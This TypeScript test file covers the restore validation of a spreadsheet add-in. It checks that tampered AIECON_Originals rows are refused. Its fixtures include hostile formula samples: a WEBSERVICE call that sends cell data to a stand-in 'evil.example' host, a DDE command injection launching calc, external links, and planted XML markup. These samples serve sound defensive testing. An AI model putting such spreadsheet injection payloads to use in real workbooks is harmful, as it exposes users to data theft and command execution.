// The one check both restores (the CLI's and the pane's) make on each AIECON_Originals row before
// anything is cleared or written: only what conversion itself could have written is restored.
import {
  entriesFromRows,
  entryProblem,
  entryRows,
  MAX_RUN_CELLS,
  ORIGINALS_COLUMNS,
  fingerprint,
  MAX_SPILL_CELLS,
  recordFromRows,
  recordRows,
  restoreRefusal,
  type OriginalEntry,
} from "../../src/share/originals";

const entry = (over: Partial<OriginalEntry>): OriginalEntry => ({
  sheet: "Model",
  cell: "C7",
  formula: '=AIECON.COSTCURVE(B2,12,"gpt-4o")',
  arrayRange: "",
  writtenRange: "C7:D18",
  convertedAt: "2026-12-01",
  ...over,
});
const sheets = (name: string) => name === "Model" || name === "AIECON_Originals";

describe("an AIECON_Originals row", () => {
  it("is restorable as conversion writes it: a formula, a spill's values, a legacy array", () => {
    expect(entryProblem(entry({}), sheets)).toBeUndefined();
    expect(entryProblem(entry({ writtenRange: "", formula: "=ROUND(AIECON.COSTPERUSER(A1,50),2)" }), sheets)).toBeUndefined();
    expect(
      entryProblem(entry({ writtenRange: "", arrayRange: "C7:E9", formula: '=AIECON.COSTTREE(Tree!A1:F3,"breakdown")' }), sheets),
    ).toBeUndefined();
    expect(entryProblem(entry({ formula: "=_xldudf_AIECON_TOKENCOUNT(A1)", writtenRange: "C7:C7" }), sheets)).toBeUndefined();
  });

  it.each([
    [{ writtenRange: "A1:XFD1048576", cell: "A1" }, /written range 'A1:XFD1048576' covers 17,179,869,184 cells, more than the 250,000/],
    [{ writtenRange: "A1:B2" }, /written range 'A1:B2' is not the block its cell C7 spilled into/],
    [{ writtenRange: "Other!C7:D9" }, /written range 'Other!C7:D9' is not the block/],
    [{ arrayRange: "B6:D9" }, /array range 'B6:D9' is not the block/],
    [{ writtenRange: "not a range" }, /written range 'not a range' is not the block/],
    [{ formula: '=WEBSERVICE("http://evil.example/?"&A1)' }, /calls no AIECON function/],
    [{ formula: '=AIECON.COSTPERUSER(1,2)+WEBSERVICE("http://evil.example")' }, /calls WEBSERVICE, which the conversion never writes/],
    [{ formula: '=HYPERLINK("http://evil","x")&AIECON.PRICESASOF()' }, /calls HYPERLINK/],
    [{ formula: "=AIECON.COSTPERUSER([1]Sheet1!A1,2)" }, /calls a link to another file/],
    [{ formula: "=AIECON.COSTPERUSER(cmd|' /c calc'!A0,2)" }, /calls a link to another file/],
    [{ sheet: "Gone" }, /its sheet 'Gone' is not in the workbook/],
    [{ sheet: "AIECON_Originals" }, /its sheet 'AIECON_Originals' is not in the workbook/],
    [{ cell: "C7:D8" }, /its cell 'C7:D8' is not one cell/],
  ])("%o is refused", (over, problem) => {
    expect(entryProblem(entry(over), sheets)).toMatch(problem);
  });

  it("judges each row of a filled-down column by its own formula (the check is remembered by shape, not by cell)", () => {
    const rows = (formula: (r: number) => string) =>
      Array.from({ length: 30 }, (_, i) => entry({ cell: `C${i + 2}`, writtenRange: "", formula: formula(i + 2) }));
    for (const e of rows((r) => `=AIECON.COSTPERUSER(Sheet1!A${r},2)`)) expect(entryProblem(e, sheets)).toBeUndefined();
    for (const e of rows((r) => `=AIECON.COSTPERUSER([1]Sheet1!A${r},2)`))
      expect(entryProblem(e, sheets)).toMatch(/calls a link to another file/);
    for (const e of rows((r) => `=AIECON.COSTPERUSER(A${r},2)+WEBSERVICE(B${r})`))
      expect(entryProblem(e, sheets)).toMatch(/'=AIECON.COSTPERUSER\(A\d+,2\)\+WEBSERVICE\(B\d+\)' calls WEBSERVICE/);
    for (const e of rows((r) => `=AIECONX(A${r},2)`)) expect(entryProblem(e, sheets)).toMatch(/calls no AIECON function/);
    const mixed = rows((r) => (r % 2 ? `=AIECON.COSTPERUSER(A${r},2)` : `=SUM(A${r},2)`));
    mixed.forEach((e, i) =>
      expect(entryProblem(e, sheets)).toBe(i % 2 ? undefined : `its formula '${e.formula}' calls no AIECON function`),
    );
  });

  it("a spill of exactly the largest size is allowed, one cell more is not", () => {
    expect(entryProblem(entry({ cell: "A1", writtenRange: `A1:A${MAX_SPILL_CELLS}` }), sheets)).toBeUndefined();
    expect(entryProblem(entry({ cell: "A1", writtenRange: `A1:A${MAX_SPILL_CELLS + 1}` }), sheets)).toMatch(/covers 250,001 cells/);
  });

  it("refuses the whole restore by the first bad row, naming it with its text cut and escaped", () => {
    const planted = entry({ cell: "B2", writtenRange: "", formula: `=WEBSERVICE("${"x".repeat(5000)}\u202e")` });
    const refusal = restoreRefusal([entry({}), planted], sheets)!;
    expect(refusal).toMatch(
      /^Nothing was restored: AIECON_Originals entry 2 \(Model!B2\) cannot be restored as written: its formula '=WEBSERVICE\("x+…' calls no AIECON/,
    );
    expect(refusal.length).toBeLessThan(400);
    expect(restoreRefusal([entry({})], sheets)).toBeUndefined();
  });
});

describe("the conversion record (AIECON_Originals H:I)", () => {
  const prices = { sheet: "AI Prices", createdSheet: true, tableRef: "A1:J3", added: "A1:J3", fingerprint: "0123456789abcdef" };

  it("reads back what it wrote", () => {
    const record = { calcPr: { calcId: "191029", fullCalcOnLoad: "0" }, prices };
    expect(recordFromRows(recordRows(record))).toEqual(record);
    expect(recordFromRows(recordRows({ calcPr: null }))).toEqual({ calcPr: null });
    expect(recordFromRows([])).toEqual({});
  });

  it("treats an edited record as no record, so a restore never writes planted markup", () => {
    const planted = (calcPr: string) =>
      recordFromRows([
        ["Conversion record", "Value"],
        ["calcPr before", calcPr],
      ]);
    expect(planted('{"calcId":"1\\"/><definedNames/>"}')).toEqual({ calcPr: { calcId: '1"/><definedNames/>' } }); // a value: escaped when written
    expect(planted('{"x/><y":"1"}')).toEqual({});
    expect(planted('{"calcId":1}')).toEqual({});
    expect(planted("[1]")).toEqual({});
    expect(planted("not json")).toEqual({});
    const rows = recordRows({ prices }).map((r) => (r[0] === "Prices added" ? [r[0], "Other!A1:J3"] : r));
    expect(recordFromRows(rows)).toEqual({});
  });

  it("fingerprints values, blank and empty text alike", () => {
    expect(fingerprint([["gpt-4o", 2.5, null]])).toBe(fingerprint([["gpt-4o", 2.5, ""]]));
    expect(fingerprint([["gpt-4o", 2.5, null]])).not.toBe(fingerprint([["gpt-4o", 2.6, null]]));
    expect(fingerprint([["gpt-4o", 2.5, null]])).toMatch(/^[0-9a-f]{16}$/);
  });
});

describe("a column of formulas filled down", () => {
  const inPlace = (cell: string, formula: string, over: Partial<OriginalEntry> = {}) => entry({ cell, formula, writtenRange: "", ...over });
  const read = (entries: readonly OriginalEntry[]) => entriesFromRows([[...ORIGINALS_COLUMNS], ...entryRows(entries)]);

  it("takes one row, read back as one entry per cell exactly", () => {
    const entries = Array.from({ length: 500 }, (_, i) =>
      inPlace(`G${i + 2}`, `=AIECON.COSTPERINTERACTION(B${i + 2},$C$1,"gpt-4o")*Rates!D${i + 2}`),
    );
    const rows = [...entryRows(entries)];
    expect(rows).toEqual([["Model", "G2:G501", '=AIECON.COSTPERINTERACTION(B2,$C$1,"gpt-4o")*Rates!D2', "", "", "2026-12-01", ""]]);
    expect(read(entries)).toEqual(entries.map((e) => ({ ...e, writtenValues: "" })));
    expect(read(entries).every((e) => entryProblem(e, sheets) === undefined)).toBe(true);
  });

  it.each([1, 2, 3])("keeps every entry whatever breaks the runs (seed %d)", (seed) => {
    let s = seed;
    const pick = (n: number) => ((s = (Math.imul(s, 1664525) + 1013904223) >>> 0), s % n);
    const entries: OriginalEntry[] = [];
    let row = 2;
    for (let i = 0; i < 400; i++) {
      const k = pick(14);
      row += k === 0 ? 2 : 1; // a gap
      const r = k === 1 ? row + 7 : row; // a formula naming another row than its own
      if (k === 2)
        entries.push(entry({ cell: `G${row}` })); // a call written as values
      else if (k === 3) entries.push(inPlace(`G${row}`, `=AIECON.TOKENCOUNT(A${r})`, { sheet: "Other" }));
      else if (k === 4) entries.push(inPlace(`G${row}`, `=AIECON.TOKENCOUNT(A${r})`, { convertedAt: "2026-12-02" }));
      else if (k === 5) entries.push(inPlace(`H${row}`, `=AIECON.TOKENCOUNT(A${r})`));
      else if (k === 6)
        entries.push(inPlace(`G${row}`, `=AIECON.TOKENCOUNT("A${r}")`)); // a row named in text: never moved
      else if (k === 7)
        entries.push(inPlace(`g${row}`, `=AIECON.TOKENCOUNT(A${r})&A$1`)); // named otherwise than the conversion names it
      else if (k === 8) entries.push(inPlace(`$G$${row}`, `=AIECON.TOKENCOUNT(A${r})&A$1`));
      else entries.push(inPlace(`G${row}`, `=AIECON.TOKENCOUNT(A${r})&A$1`));
    }
    const rows = [...entryRows(entries)];
    expect(rows.length).toBeLessThan(entries.length);
    expect(rows.some((r) => r[1].includes(":") && r[4] === "")).toBe(true);
    expect(read(entries)).toEqual(entries.map((e) => ({ ...e, writtenValues: e.writtenValues ?? "" })));
  });

  it("takes a row a cell beyond the most cells such rows stand for, so every conversion restores", () => {
    const entries = Array.from({ length: MAX_RUN_CELLS + 3 }, (_, i) => inPlace(`G${i + 2}`, `=AIECON.TOKENCOUNT(A${i + 2})`));
    const rows = [...entryRows(entries)];
    expect(rows.map((r) => r[1])).toEqual([`G2:G${MAX_RUN_CELLS + 1}`, ...entries.slice(MAX_RUN_CELLS).map((e) => e.cell)]);
    expect(read(entries).map((e) => e.formula)).toEqual(entries.map((e) => e.formula));
    // A run that fits in the room left takes it, to the last cell.
    const column = (letter: string, from: number, n: number) =>
      Array.from({ length: n }, (_, i) => inPlace(`${letter}${from + i}`, `=AIECON.TOKENCOUNT(A${from + i})`));
    const filled = [...column("G", 2, MAX_RUN_CELLS - 2), ...column("H", 2, 4)];
    expect([...entryRows(filled)].map((r) => r[1])).toEqual([`G2:G${MAX_RUN_CELLS - 1}`, "H2:H3", "H4", "H5"]);
    expect(read(filled).map((e) => e.formula)).toEqual(filled.map((e) => e.formula));
  });

  it("is refused beyond the most cells a restore puts back, and across columns", () => {
    const f = "=AIECON.TOKENCOUNT(A2)";
    const planted = (cells: string[]) =>
      entriesFromRows([[...ORIGINALS_COLUMNS], ...cells.map((cell) => ["Model", cell, f, "", "", "2026-12-01", ""])]);
    expect(planted([`G2:G${MAX_RUN_CELLS + 1}`])).toHaveLength(MAX_RUN_CELLS);
    const over = planted([`G2:G${MAX_RUN_CELLS + 1}`, "H2:H3"]);
    expect(over).toHaveLength(MAX_RUN_CELLS + 1);
    expect(entryProblem(over[MAX_RUN_CELLS], sheets)).toMatch(/its cells 'H2:H3', filled down, would make more than 250,000 formulas/);
    expect(restoreRefusal(over, sheets)).toMatch(/entry 250001 \(Model!H2:H3\)/);
    expect(entryProblem(planted(["G2:H9"])[0], sheets)).toMatch(/its cell 'G2:H9' is not one cell/);
    expect(entryProblem(planted(["$G$2:$G$9"])[0], sheets)).toMatch(/is not one cell/);
    // A run stands for formulas written in place only: with a written range it is one (refused) entry.
    expect(entriesFromRows([[...ORIGINALS_COLUMNS], ["Model", "G2:G9", f, "", "G2:G9", "2026-12-01", ""]])).toHaveLength(1);
  });
});
